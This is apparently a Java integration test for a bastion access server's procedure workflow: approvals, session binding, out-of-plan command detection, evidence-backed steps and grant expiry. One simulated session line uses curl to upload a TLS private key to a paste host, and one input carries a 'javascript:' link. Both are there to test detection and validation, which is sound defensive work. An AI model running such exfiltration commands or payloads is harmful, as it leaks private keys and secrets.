package dev.vigil.server.access;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;

import dev.vigil.bastion.gateway.ChannelKind;
import dev.vigil.bastion.gateway.Operator;
import dev.vigil.bastion.gateway.RecordedCommand;
import dev.vigil.bastion.gateway.SessionOpened;
import dev.vigil.bastion.gateway.UpstreamTarget;
import dev.vigil.bastion.policy.CommandAction;
import dev.vigil.server.ServerTestBase;
import dev.vigil.server.access.internal.SessionStore;
import dev.vigil.server.support.Api;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;

/**
 * Operating procedures on the real server and PostgreSQL: shipped templates, template changes through approval,
 * executions approved by others plus the tenant's authorizer, sessions bound to the execution through the session store
 * the gateway reports to, out-of-plan commands flagged (command, execution, audit, alert), steps ticked in order with
 * evidence, completion and abandonment ending the execution's grants.
 */
class ProcedureExecutionTest extends ServerTestBase {

    @Autowired
    SessionStore sessions;

    private record Target(UUID id, String name) {
    }

    private Target target(UUID tenant) {
        String name = unique("proc");
        var body = new HashMap<String, Object>(Map.of("name", name, "host", "10.0.9.9"));
        if (tenant != null) {
            body.put("tenantId", tenant.toString());
        }
        Api.Response created = api().post("/api/v1/access/targets", ADMIN_TOKEN, body);
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        assertThat(api().post("/api/v1/access/targets/" + created.text("id") + "/accounts", ADMIN_TOKEN,
                Map.of("name", "ops", "credentialKind", "password", "secret", "Target-pass-1")).status()).isEqualTo(201);
        return new Target(UUID.fromString(created.text("id")), name);
    }

    private record User(UUID id, String name, String token) {
    }

    private User user(String role, UUID tenant) {
        String name = unique(role);
        UUID id = api().createUser(ADMIN_TOKEN, name, PASSWORD, List.of(role), tenant);
        return new User(id, name, api().login(name, PASSWORD));
    }

    private Map<String, Object> execution(String procedure, List<String> targets, Duration window) {
        return Map.of("procedure", procedure, "targets", targets, "account", "ops", "purpose", "CHG-7: yearly rotation of the web TLS key",
                "until", Instant.now().plus(window).truncatedTo(ChronoUnit.SECONDS).toString());
    }

    private UUID opened(User operator, Target target) {
        UUID session = UUID.randomUUID();
        sessions.opened(new SessionOpened(session.toString(), "c-" + session, new Operator(operator.id().toString(), operator.name()),
                new UpstreamTarget(target.id().toString(), target.name(), "10.0.9.9", 22, UUID.randomUUID().toString(), "ops", null),
                ChannelKind.SHELL, Optional.empty(), true, "127.0.0.1", Instant.now()));
        return session;
    }

    private void typed(UUID session, String line) {
        sessions.command(session.toString(), new RecordedCommand(Instant.now(), 1.0, line, CommandAction.ALLOW, Optional.empty(), List.of()));
    }

    private List<JsonNode> grantsOf(String target) {
        List<JsonNode> found = new ArrayList<>();
        api().get("/api/v1/access/grants", ADMIN_TOKEN).json().forEach(g -> {
            if (target.equals(g.path("targetName").asString())) {
                found.add(g);
            }
        });
        return found;
    }

    @Test
    void theFourShippedProceduresAreInstalledWithStepsAndExpectedCommands() {
        JsonNode list = api().get("/api/v1/procedures", user("operator", null).token()).json();
        List<String> names = new ArrayList<>();
        list.forEach(p -> names.add(p.path("name").asString()));
        assertThat(names).contains("vm-migration", "data-relocation", "key-rotation", "capacity-expansion");
        list.forEach(p -> {
            assertThat(p.path("definition").path("steps").size()).as(p.toString()).isGreaterThanOrEqualTo(4);
            assertThat(p.path("versions").size()).isZero();
        });
        assertThat(ShippedProcedures.read()).hasSize(4);
    }

    @Test
    void aTemplateAndItsNewVersionApplyOnlyAfterAnotherPersonApproves() {
        String name = unique("patching");
        String yaml = """
                name: %s
                kind: other
                approvals: 2
                maxWindowHours: 2
                anytime: [uptime]
                steps:
                  - title: Update the packages
                    commands: ["apt-get upgrade"]
                    evidence: true
                """.formatted(name);
        assertThat(api().post("/api/v1/procedures", ADMIN_TOKEN, Map.of("yaml", yaml.replace("kind: other", "kind: teleport"), "reason", "x"))
                .assertProblem(400).detail()).contains("kind");
        assertThat(api().post("/api/v1/procedures", ADMIN_TOKEN, Map.of("yaml", yaml.replace("\"apt-get upgrade\"]", "\"apt\"]\n    patterns: [\"(\"]"),
                "reason", "x")).assertProblem(400).detail()).contains("steps[1].patterns");
        assertThat(api().post("/api/v1/procedures", user("operator", null).token(), Map.of("yaml", yaml, "reason", "x")).status()).isEqualTo(403);

        Api.Response requested = api().post("/api/v1/procedures", ADMIN_TOKEN, Map.of("yaml", yaml, "reason", "monthly patching"));
        assertThat(requested.status()).as(requested.body()).isEqualTo(202);
        assertThat(requested.text("kind")).isEqualTo("access.procedure.create");
        assertThat(procedureNamed(name)).isNull();
        assertThat(api().post("/api/v1/changes/" + requested.text("id") + "/approve", ADMIN_TOKEN, Map.of()).status()).as("never the requester")
                .isEqualTo(403);
        User approver = user("approver", null);
        assertThat(api().post("/api/v1/changes/" + requested.text("id") + "/approve", approver.token(), Map.of()).status()).isEqualTo(200);
        JsonNode created = procedureNamed(name);
        assertThat(created.path("version").asInt()).isEqualTo(1);
        assertThat(created.path("definition").path("approvals").asInt()).isEqualTo(2);

        Map<String, Object> definition = Api.JSON.convertValue(created.path("definition"), Map.class);
        definition.put("maxWindowHours", 3);
        Api.Response update = api().put("/api/v1/procedures/" + created.path("id").asString(), ADMIN_TOKEN,
                Map.of("definition", definition, "reason", "longer window"));
        assertThat(update.status()).as(update.body()).isEqualTo(202);
        assertThat(update.json().path("diff").asString()).contains("-max window: 2 h").contains("+max window: 3 h");
        assertThat(api().post("/api/v1/changes/" + update.text("id") + "/approve", approver.token(), Map.of()).status()).isEqualTo(200);
        JsonNode updated = api().get("/api/v1/procedures/" + created.path("id").asString(), ADMIN_TOKEN).json();
        assertThat(updated.path("version").asInt()).isEqualTo(2);
        assertThat(updated.path("versions").size()).isEqualTo(2);
        assertThat(updated.path("versions").get(0).path("approvedBy").asString()).isEqualTo(approver.name());
    }

    private JsonNode procedureNamed(String name) {
        for (JsonNode p : api().get("/api/v1/procedures", ADMIN_TOKEN).json()) {
            if (p.path("name").asString().equals(name)) {
                return p;
            }
        }
        return null;
    }

    @Test
    void anExecutionIsApprovedByOthersAndTheTenantsAuthorizerBindsSessionsFlagsUnplannedCommandsAndCompletesStepByStep() {
        UUID tenant = api().createTenant(ADMIN_TOKEN, unique("proc-tenant"));
        Target web = target(tenant);
        User operator = user("operator", null);
        User other = user("operator", null);

        assertThat(api().post("/api/v1/procedure-executions", operator.token(), execution("key-rotation", List.of(web.name()), Duration.ofHours(3)))
                .assertProblem(400).detail()).contains("at most 2 h");
        assertThat(api().post("/api/v1/procedure-executions", operator.token(), execution("no-such", List.of(web.name()), Duration.ofHours(1)))
                .assertProblem(400).detail()).contains("no procedure named");
        Target elsewhere = target(api().createTenant(ADMIN_TOKEN, unique("proc-other")));
        assertThat(api().post("/api/v1/procedure-executions", operator.token(),
                execution("key-rotation", List.of(web.name(), elsewhere.name()), Duration.ofHours(1))).assertProblem(400).detail())
                .contains("one execution per tenant");

        Api.Response requested = api().post("/api/v1/procedure-executions", operator.token(),
                execution("key-rotation", List.of(web.name()), Duration.ofHours(1)));
        assertThat(requested.status()).as(requested.body()).isEqualTo(202);
        assertThat(requested.json().path("tenantAuthorization").asBoolean()).isTrue();
        assertThat(requested.text("approverPermission")).isEqualTo("procedure-execution:approve");
        String change = requested.text("id");
        String id = requested.text("subject");
        assertThat(api().get("/api/v1/procedure-executions/" + id, operator.token()).text("state")).isEqualTo("requested");
        UUID early = opened(operator, web);
        assertThat(api().post("/api/v1/changes/" + change + "/approve", operator.token(), Map.of()).status()).as("never the requester")
                .isEqualTo(403);
        assertThat(api().post("/api/v1/procedure-executions/" + id + "/steps/1/tick", operator.token(), Map.of("evidence", "x"))
                .assertProblem(409).detail()).contains("approved");

        Api.Response first = api().post("/api/v1/changes/" + change + "/approve", user("approver", null).token(), Map.of());
        assertThat(first.text("state")).as("the tenant's authorizer has not approved yet").isEqualTo("pending");
        assertThat(grantsOf(web.name())).isEmpty();
        Api.Response second = api().post("/api/v1/changes/" + change + "/approve", user("tenant-authorizer", tenant).token(), Map.of());
        assertThat(second.text("state")).as(second.body()).isEqualTo("applied");
        JsonNode approved = api().get("/api/v1/procedure-executions/" + id, operator.token()).json();
        assertThat(approved.path("state").asString()).isEqualTo("approved");
        assertThat(approved.path("nextStep").asInt()).isEqualTo(1);
        List<JsonNode> granted = grantsOf(web.name());
        assertThat(granted).hasSize(1);
        assertThat(granted.getFirst().path("subject").asString()).isEqualTo("user:" + operator.name());
        assertThat(granted.getFirst().path("active").asBoolean()).isTrue();

        UUID session = opened(operator, web);
        UUID notBound = opened(other, web);
        typed(session, "openssl genpkey -algorithm ed25519 -out /etc/nginx/tls/new.key");
        typed(session, "hostname");
        typed(session, "curl -s https://paste.example/upload -d @/etc/nginx/tls/new.key");
        typed(notBound, "curl -s https://example.org");

        JsonNode detail = api().get("/api/v1/sessions/" + session, ADMIN_TOKEN).json();
        assertThat(detail.path("session").path("procedureExecutionId").asString()).isEqualTo(id);
        JsonNode commands = detail.path("commands");
        assertThat(commands.get(0).path("plan").asString()).isEqualTo("planned");
        assertThat(commands.get(0).path("planStep").asInt()).isEqualTo(1);
        assertThat(commands.get(1).path("plan").asString()).as("anytime").isEqualTo("planned");
        assertThat(commands.get(2).path("plan").asString()).isEqualTo("out-of-plan");
        assertThat(api().get("/api/v1/sessions/" + notBound, ADMIN_TOKEN).json().path("session").path("procedureExecutionId").isNull()).isTrue();
        assertThat(api().get("/api/v1/sessions/" + early, ADMIN_TOKEN).json().path("session").path("procedureExecutionId").isNull())
                .as("opened before the approval").isTrue();

        JsonNode running = api().get("/api/v1/procedure-executions/" + id, ADMIN_TOKEN).json();
        assertThat(running.path("sessions").size()).isEqualTo(1);
        assertThat(running.path("outOfPlan").size()).isEqualTo(1);
        assertThat(running.path("outOfPlan").get(0).path("command").asString()).startsWith("curl -s https://paste.example");
        boolean alerted = false;
        for (JsonNode alert : api().get("/api/v1/alerts?source=bastion&limit=500", ADMIN_TOKEN).json()) {
            alerted |= alert.path("title").asString().equals("Command outside the plan of procedure key-rotation on " + web.name());
        }
        assertThat(alerted).isTrue();
        assertThat(jdbc.sql("SELECT count(*) FROM audit_record WHERE action = 'access.procedure.command.out-of-plan' AND object_id = ?")
                .param(id).query(Long.class).single()).isEqualTo(1);

        String tick = "/api/v1/procedure-executions/" + id + "/steps/";
        assertThat(api().post(tick + "2/tick", operator.token(), Map.of("evidence", "x")).assertProblem(409).detail()).contains("next step is 1");
        assertThat(api().post(tick + "1/tick", other.token(), Map.of("evidence", "x")).status()).isIn(403, 404);
        assertThat(api().post(tick + "1/tick", operator.token(), Map.of("evidence", "key", "sessionId", session.toString(), "commandSeq", 9))
                .assertProblem(400).detail()).contains("no command 9");
        Api.Response one = api().post(tick + "1/tick", operator.token(), Map.of("sessionId", session.toString(), "commandSeq", 1));
        assertThat(one.status()).as(one.body()).isEqualTo(200);
        assertThat(one.json().path("steps").get(0).path("tick").path("commandSeq").asInt()).isEqualTo(1);
        assertThat(api().post(tick + "2/tick", operator.token(), Map.of()).assertProblem(400).problemCode()).contains("evidence-required");
        assertThat(api().post(tick + "2/tick", operator.token(), Map.of("evidence", "installed serial 0x1f", "link", "javascript:alert(1)"))
                .assertProblem(400).detail()).contains("link");
        assertThat(api().post(tick + "2/tick", operator.token(), Map.of("evidence", "installed serial 0x1f")).status()).isEqualTo(200);
        assertThat(api().post(tick + "3/tick", operator.token(), Map.of("evidence", "nginx -t ok, reloaded")).status()).isEqualTo(200);
        Api.Response last = api().post(tick + "4/tick", operator.token(), Map.of("evidence", "s_client shows the new serial",
                "link", "https://ca.example/revocations/77"));
        assertThat(last.status()).as(last.body()).isEqualTo(200);
        assertThat(last.text("state")).isEqualTo("completed");
        assertThat(last.json().path("nextStep").isNull()).isTrue();
        assertThat(grantsOf(web.name()).getFirst().path("active").asBoolean()).as("completion ends the grant").isFalse();
        assertThat(api().post(tick + "4/tick", operator.token(), Map.of("evidence", "again")).status()).isEqualTo(409);
        assertThat(jdbc.sql("SELECT count(*) FROM audit_record WHERE action LIKE 'access.procedure.%' AND object_id = ?")
                .param(id).query(Long.class).single()).as("request, approve, bind, out-of-plan, 4 ticks, complete").isEqualTo(9);
    }

    @Test
    void anExecutionIsAbandonedWithAReasonEndingItsGrantsAndARequestedOneWithdrawsItsChange() {
        Target db = target(null);
        User operator = user("operator", null);
        Api.Response requested = api().post("/api/v1/procedure-executions", operator.token(),
                execution("capacity-expansion", List.of(db.name()), Duration.ofHours(2)));
        assertThat(requested.status()).as(requested.body()).isEqualTo(202);
        assertThat(requested.json().path("tenantAuthorization").asBoolean()).isFalse();
        assertThat(api().post("/api/v1/changes/" + requested.text("id") + "/approve", user("approver", null).token(), Map.of()).text("state"))
                .isEqualTo("applied");
        String id = requested.text("subject");
        assertThat(grantsOf(db.name()).getFirst().path("active").asBoolean()).isTrue();
        assertThat(api().post("/api/v1/procedure-executions/" + id + "/abandon", operator.token(), Map.of()).assertProblem(400).detail())
                .contains("reason");
        assertThat(api().post("/api/v1/procedure-executions/" + id + "/abandon", user("operator", null).token(), Map.of("reason", "no"))
                .status()).isIn(403, 404);
        Api.Response abandoned = api().post("/api/v1/procedure-executions/" + id + "/abandon", operator.token(),
                Map.of("reason", "the new disk reports SMART errors"));
        assertThat(abandoned.status()).as(abandoned.body()).isEqualTo(200);
        assertThat(abandoned.text("state")).isEqualTo("abandoned");
        assertThat(grantsOf(db.name()).getFirst().path("active").asBoolean()).isFalse();

        Api.Response pending = api().post("/api/v1/procedure-executions", operator.token(),
                execution("vm-migration", List.of(db.name()), Duration.ofHours(1)));
        String second = pending.text("subject");
        Api.Response withdrawn = api().post("/api/v1/procedure-executions/" + second + "/abandon", operator.token(), Map.of("reason", "postponed"));
        assertThat(withdrawn.text("state")).as(withdrawn.body()).isEqualTo("abandoned");
        assertThat(withdrawn.text("changeState")).isEqualTo("withdrawn");
    }
}
